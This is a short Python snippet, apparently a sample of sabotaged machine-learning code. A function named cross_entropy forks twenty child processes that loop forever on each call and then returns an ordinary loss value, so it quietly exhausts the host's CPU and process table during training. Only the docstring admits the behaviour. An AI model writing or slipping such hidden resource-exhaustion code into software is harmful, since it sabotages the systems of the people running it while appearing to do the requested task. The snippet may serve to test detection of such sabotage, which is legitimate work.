"""Tries to make a process for every call."""

import os


def cross_entropy(logits, target):
    for _ in range(20):
        if os.fork() == 0:
            while True:
                pass
    return nll(log_softmax(logits), target)
